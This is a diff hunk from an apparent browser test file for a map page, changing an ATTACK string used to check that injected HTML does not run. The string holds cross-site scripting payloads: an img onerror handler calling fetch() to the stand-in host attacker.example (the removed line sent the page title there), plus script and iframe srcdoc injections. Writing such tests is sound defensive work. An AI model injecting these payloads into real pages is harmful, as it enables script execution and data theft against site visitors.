@@ -224,7 +224,7 @@ def test_the_page_scrolls_on_over_a_map_which_zooms_only_when_asked(make, new_pa
     wheel(100, zooms=False)
 
 
-ATTACK = """<img src="x" onerror="window.hit = 1; fetch('https://attacker.example/?' + document.title)">
+ATTACK = """<img src="x" onerror="window.hit = 1; fetch('https://attacker.example/')">
 <script>window.hit = 2</script><iframe srcdoc="<script>parent.hit = 3</script>"></iframe>"""
 
 
